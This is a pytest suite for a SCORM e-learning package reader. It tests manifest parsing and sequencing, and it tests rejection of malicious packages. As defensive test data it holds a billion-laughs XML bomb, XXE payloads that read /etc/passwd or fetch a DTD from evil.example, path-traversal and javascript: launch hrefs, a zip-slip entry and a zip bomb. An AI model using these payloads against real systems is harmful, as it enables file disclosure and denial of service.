"""SCORM packages are read as their manifests say, and those that attack or break are refused in words."""

import time

import pytest

from courses.scorm.core import Version, read_manifest, read_scorm
from tests.factories.packages import add_link, lie_about_size, zip_of
from tests.factories.scorm import ITEM, RESOURCE, manifest, scorm

FOURTH = "2004 4th Edition"


def codes(path):
    return {problem.code for problem in read_scorm(path).problems}


def of_manifest(**described):
    return {problem.code for problem in read_manifest(manifest(**described).encode())[1]}


def item_with(inside, edition=FOURTH):
    """The one entry of a course, and the codes of what is wrong with it."""
    found, problems = read_manifest(manifest(items=ITEM.format(inside), edition=edition).encode())
    return found.default.items[0], {problem.code for problem in problems}


def test_a_good_package_has_no_problems(tmp_path):
    package = read_scorm(scorm(tmp_path))

    assert package.problems == []
    assert package.manifest.version == Version.SCORM_12
    assert package.launches == {"r1": "index.html"}
    assert set(package.files) == {"imsmanifest.xml", "index.html"}


@pytest.mark.parametrize(
    ("edition", "version"),
    [
        ("1.2", Version.SCORM_12),
        ("CAM 1.3", Version.SCORM_2004),
        ("2004 3rd Edition", Version.SCORM_2004),
        (FOURTH, Version.SCORM_2004),
    ],
)
def test_the_version_is_what_the_manifest_says(edition, version):
    assert read_manifest(manifest(edition=edition).encode())[0].version == version


def test_the_version_is_told_by_namespaces_where_nothing_is_said():
    for edition, version in (("1.2", Version.SCORM_12), (FOURTH, Version.SCORM_2004)):
        silent = manifest(edition=edition).replace(f"<schemaversion>{edition}</schemaversion>", "")
        assert read_manifest(silent.encode())[0].version == version
    assert of_manifest(edition="5") == {"version-unknown"}


@pytest.mark.parametrize(
    ("described", "expected"),
    [
        ({"items": ""}, {"nothing-to-launch"}),
        ({"items": '<item identifier="i"><title>Only a heading</title></item>'}, {"nothing-to-launch"}),
        ({"items": ITEM.format("") * 2}, {"identifier-twice"}),
        (
            {"items": ITEM.replace('identifier="i1" ', "").format("")},
            {"identifier-missing"},
        ),
        ({"items": ITEM.replace("r1", "r9").format("")}, {"resource-missing"}),
        ({"items": ITEM.replace("<title>Lesson 1</title>", "").format("")}, {"title-missing"}),
        ({"resources": RESOURCE.replace(' href="index.html">', ">", 1)}, {"resource-without-file"}),
        (
            {"resources": RESOURCE.replace("</resource>", '<dependency identifierref="x"/></resource>')},
            {"dependency-missing"},
        ),
        ({"default": "o9"}, {"default-organization-missing"}),
    ],
)
def test_faults_of_the_manifest_are_named(described, expected):
    assert of_manifest(**described) == expected


def test_a_table_of_contents_without_end_is_refused():
    items = "".join(f'<item identifier="i{number}"><title>x</title></item>' for number in range(5_001))

    assert "too-many-items" in of_manifest(items=items)


def test_more_than_one_organization_is_read_and_the_default_played():
    two = manifest().replace(
        "</organizations>", '<organization identifier="o2"><title>B</title></organization></organizations>'
    )

    found, problems = read_manifest(two.encode())

    assert [entry.title for entry in found.organizations] == ["Course", "B"]
    assert found.default.identifier == "o1"
    assert problems == []


def test_what_scorm_1_2_says_of_an_entry_is_read():
    item, problems = item_with(
        "<prerequisites type='aicc_script'>a&amp;b</prerequisites><masteryscore>80</masteryscore>"
        "<maxtimeallowed>00:30:00</maxtimeallowed><timelimitaction>exit,message</timelimitaction>"
        "<datafromlms>start</datafromlms>",
        "1.2",
    )

    assert problems == set()
    assert (item.prerequisites, item.mastery_score, item.max_time_allowed) == ("a&b", 80, "00:30:00")
    assert (item.time_limit_action, item.launch_data) == ("exit,message", "start")


def test_what_scorm_2004_says_of_an_entry_is_read():
    item, problems = item_with(
        '<adlcp:completionThreshold completedByMeasure="true" minProgressMeasure=".8" progressWeight="0.5"/>'
        "<adlnav:presentation><adlnav:navigationInterface><adlnav:hideLMSUI>continue</adlnav:hideLMSUI>"
        "</adlnav:navigationInterface></adlnav:presentation>"
        '<adlcp:data><adlcp:map targetID="t1" writeSharedData="false"/></adlcp:data>'
        "<imsss:sequencing><imsss:controlMode choice='false' flow='true'/>"
        "<imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions conditionCombination='any'>"
        "<imsss:ruleCondition condition='satisfied' operator='not' referencedObjective='o'/></imsss:ruleConditions>"
        "<imsss:ruleAction action='skip'/></imsss:preConditionRule></imsss:sequencingRules>"
        "<imsss:limitConditions attemptLimit='2' attemptAbsoluteDurationLimit='PT1H30M'/>"
        "<imsss:objectives><imsss:primaryObjective objectiveID='p' satisfiedByMeasure='true'>"
        "<imsss:minNormalizedMeasure>0.6</imsss:minNormalizedMeasure>"
        "<imsss:mapInfo targetObjectiveID='g' writeSatisfiedStatus='true'/></imsss:primaryObjective></imsss:objectives>"
        "</imsss:sequencing>"
    )

    assert problems == set()
    assert (item.completion_threshold, item.completed_by_measure, item.progress_weight) == (0.8, True, 0.5)
    assert item.hidden_controls == {"continue"}
    assert item.shared_data == (("t1", True, False),)
    rules = item.sequencing
    assert (rules.control.choice, rules.control.flow, rules.attempt_limit) == (False, True, 2)
    [rule] = rules.pre_rules
    assert (rule.action, rule.needs_all, rule.conditions[0].is_negated) == ("skip", False, True)
    [objective] = rules.objectives
    assert (objective.is_primary, objective.minimum_measure, objective.maps[0].flags) == (
        True,
        0.6,
        {"writeSatisfiedStatus": True},
    )


@pytest.mark.parametrize(
    "inside",
    [
        "<imsss:sequencing><imsss:controlMode choice='perhaps'/></imsss:sequencing>",
        "<imsss:sequencing><imsss:limitConditions attemptLimit='-1'/></imsss:sequencing>",
        "<imsss:sequencing><imsss:limitConditions attemptAbsoluteDurationLimit='an hour'/></imsss:sequencing>",
        "<imsss:sequencing><imsss:rollupRules objectiveMeasureWeight='7'/></imsss:sequencing>",
        "<imsss:sequencing><imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions>"
        "<imsss:ruleCondition condition='raining'/></imsss:ruleConditions><imsss:ruleAction action='skip'/>"
        "</imsss:preConditionRule></imsss:sequencingRules></imsss:sequencing>",
        "<adlcp:completionThreshold minProgressMeasure='much'/>",
        "<adlcp:timeLimitAction>explode</adlcp:timeLimitAction>",
    ],
)
def test_a_value_that_is_none_is_left_out_and_told(inside):
    assert item_with(inside)[1] == {"value-invalid"}


def test_rules_may_stand_in_a_collection():
    collection = (
        "<imsss:sequencingCollection><imsss:sequencing ID='s'><imsss:controlMode flow='true'/>"
        "<imsss:deliveryControls tracked='false'/></imsss:sequencing></imsss:sequencingCollection>"
    )
    items = ITEM.format("<imsss:sequencing IDRef='s'><imsss:controlMode choice='false'/></imsss:sequencing>")

    found, problems = read_manifest(manifest(items=items, edition=FOURTH, extra=collection).encode())

    rules = found.default.items[0].sequencing
    assert problems == []
    # What an entry says itself replaces that part of the collection's rules as a whole.
    assert (rules.control.choice, rules.control.flow, rules.is_tracked) == (False, False, False)
    assert "sequencing-missing" in of_manifest(items=items, edition=FOURTH)


def resource(href, base=""):
    return f'<resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="{href}" xml:base="{base}"/>'


@pytest.mark.parametrize(
    ("href", "base", "launch"),
    [
        ("index.html?lesson=1#top", "", "index.html?lesson=1#top"),
        ("INDEX.HTML", "", "index.html"),
        ("./index.html", "", "index.html"),
        ("my%20page.html", "", "my page.html"),
        ("page.html", "sub/", "sub/page.html"),
        ("sub\\page.html", "", "sub/page.html"),
    ],
)
def test_what_an_entry_opens_is_found(tmp_path, href, base, launch):
    files = {"my page.html": "x", "sub/page.html": "x"}

    package = read_scorm(scorm(tmp_path, files, resources=resource(href, base)))

    assert package.problems == []
    assert package.launches == {"r1": launch}


@pytest.mark.parametrize(
    ("href", "code"),
    [
        ("gone.html", "launch-file-missing"),
        ("../../etc/passwd", "launch-file-unsafe"),
        ("/etc/passwd", "launch-file-unsafe"),
        ("%2e%2e/secret.html", "launch-file-unsafe"),
        ("https://elsewhere.example/a.html", "resource-remote"),
        ("//elsewhere.example/a.html", "resource-remote"),
        ("javascript:alert(1)", "resource-remote"),
        ("data:text/html,x", "resource-remote"),
    ],
)
def test_an_entry_opens_a_file_of_the_package_or_nothing(tmp_path, href, code):
    assert codes(scorm(tmp_path, resources=resource(href))) == {code}


def test_gaps_in_lists_of_files_are_told_but_do_not_refuse(tmp_path):
    files = "".join(f'<file href="gone{number}.png"/>' for number in range(30))

    package = read_scorm(scorm(tmp_path, resources=RESOURCE.replace("</resource>", f"{files}</resource>")))

    assert package.is_good
    assert package.problems[-1].text() == "The manifest lists 10 further files that are not in the package."


def test_a_package_in_a_folder_is_refused_with_that_reason(tmp_path):
    path = zip_of(tmp_path / "a.zip", {"Course/imsmanifest.xml": manifest(), "Course/index.html": "x"})

    assert codes(path) == {"manifest-in-folder"}


def test_what_is_no_scorm_package_is_refused(tmp_path):
    assert codes(scorm(tmp_path, {"imsmanifest.xml": None})) == {"manifest-missing"}
    assert codes(scorm(tmp_path, {"imsmanifest.xml": None, "course.crs": "x"})) == {"aicc-not-supported"}
    assert codes(scorm(tmp_path, {"imsmanifest.xml": "<courseStructure/>"})) == {"not-a-manifest"}


BILLION_LAUGHS = (
    '<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><manifest>&i;</manifest>"
)


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        ("", "xml-broken"),
        ("<manifest>", "xml-broken"),
        ("<?xml version='1.0'?>", "xml-broken"),
        (b"\xff\xfe\x00", "xml-broken"),
        ("<?xml version='1.0' encoding='no-such'?><manifest/>", "xml-broken"),
        (BILLION_LAUGHS, "xml-entities"),
        (BILLION_LAUGHS.encode("utf-16"), "xml-entities"),
        ('<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest>&x;</manifest>', "xml-entities"),
        ('<!DOCTYPE m [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><manifest/>', "xml-entities"),
        ("<a>" * 5000 + "</a>" * 5000, "xml-broken"),
        ("<a>" * 150 + "</a>" * 150, "xml-too-deep"),
        (b"<manifest>" + b" " * (11 * 1024 * 1024) + b"</manifest>", "xml-broken"),
    ],
)
def test_xml_that_attacks_or_breaks_is_refused(tmp_path, xml, code):
    started = time.process_time()

    assert codes(scorm(tmp_path, {"imsmanifest.xml": xml})) == {code}
    assert time.process_time() - started < 3


def test_a_document_type_that_reads_nothing_is_passed_over(tmp_path):
    harmless = '<!DOCTYPE manifest SYSTEM "http://evil.example/never-fetched.dtd">' + manifest()

    assert codes(scorm(tmp_path, {"imsmanifest.xml": harmless})) == set()


def test_old_encodings_are_read(tmp_path):
    old = '<?xml version="1.0" encoding="ISO-8859-1"?>' + manifest(items=ITEM.replace("Lesson 1", "Leçon").format(""))

    package = read_scorm(scorm(tmp_path, {"imsmanifest.xml": old.encode("latin-1")}))

    assert package.manifest.default.items[0].title == "Leçon"


def test_archives_that_attack_are_refused(tmp_path):
    assert codes(scorm(tmp_path, {"../evil.html": "x"})) == {"path-escapes"}
    assert codes(scorm(tmp_path, {"zeros.bin": bytes(64 * 1024 * 1024)})) == {"too-much-inside"}
    assert codes(add_link(scorm(tmp_path), "link.html")) == {"not-a-file"}
    assert codes(lie_about_size(scorm(tmp_path, {"index.html": "longer than ten letters"}))) == {"size-lies"}


def test_what_operating_systems_add_is_passed_over(tmp_path):
    junk = {"__MACOSX/._index.html": "x", ".DS_Store": "x", "sub/Thumbs.db": "x"}

    package = read_scorm(scorm(tmp_path, junk))

    assert package.problems == []
    assert set(package.files) == {"imsmanifest.xml", "index.html"}
